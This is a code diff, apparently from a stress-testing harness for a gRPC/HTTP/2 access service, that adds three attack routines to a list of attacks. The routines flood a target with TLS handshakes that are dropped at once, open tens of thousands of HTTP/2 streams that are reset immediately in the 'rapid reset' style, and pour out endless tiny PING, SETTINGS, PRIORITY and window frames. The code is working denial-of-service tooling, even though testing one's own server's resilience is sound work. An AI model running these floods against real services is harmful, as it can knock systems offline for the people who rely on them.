@@ -233,6 +233,51 @@ const headers: Attack = {
     }),
 };
 
+const handshakes: Attack = {
+  name: "handshakes, and no word after",
+  begin: (target, stopping) =>
+    keepBusy(100, stopping, async (index) => {
+      const socket = await dialTls(target, index % 2 === 0 ? "h2" : "http/1.1", stopping);
+      socket.destroy();
+    }),
+};
+
+const resets: Attack = {
+  name: "streams that are reset at once",
+  begin: (target, stopping) =>
+    keepBusy(8, stopping, async () => {
+      const socket = await dialTls(target, "h2", stopping);
+      socket.write(greeting);
+      const cancel = Buffer.from([0, 0, 0, 8]);
+      for (let stream = 1; !socket.destroyed && !stopping.aborted && stream < 40_000; stream += 2) {
+        const token = [["authorization", `Bearer ${randomBytes(8).toString("hex")}`]] as const;
+        const bytes = Buffer.concat([head("/decnet.v1.AccessService/WhoAmI", stream, token), frame(3, 0, stream, cancel)]);
+        if (!socket.write(bytes)) await Promise.race([delay(50), closed(socket)]);
+      }
+      socket.destroy();
+    }),
+};
+
+/** Pings, settings, priorities and windows, each of which HTTP/2 wants read and some answered, and a body byte by byte. */
+const smallFrames: Attack = {
+  name: "frames that say nothing",
+  begin: (target, stopping) =>
+    keepBusy(4, stopping, async (index) => {
+      const socket = await dialTls(target, "h2", stopping);
+      socket.write(Buffer.concat([greeting, head(check, 1)]));
+      const kinds = [
+        frame(6, 0, 0, Buffer.alloc(8)),
+        frame(4, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0])),
+        frame(2, 0, 1, Buffer.from([0, 0, 0, 0, 16])),
+        frame(0, 0, 1, Buffer.alloc(1)),
+      ];
+      const many = Buffer.concat(Array<Buffer>(500).fill(kinds[index % kinds.length] ?? Buffer.alloc(0)));
+      while (!socket.destroyed && !stopping.aborted)
+        if (!socket.write(many)) await Promise.race([delay(20), closed(socket)]);
+        else await delay(1);
+    }),
+};
+
 /** All of them, in the order in which a table shows them. */
 export const attacks: readonly Attack[] = [
   bodiesOverHttp2,
@@ -245,4 +290,7 @@ export const attacks: readonly Attack[] = [
   reflection,
   joins,
   headers,
+  handshakes,
+  resets,
+  smallFrames,
 ];
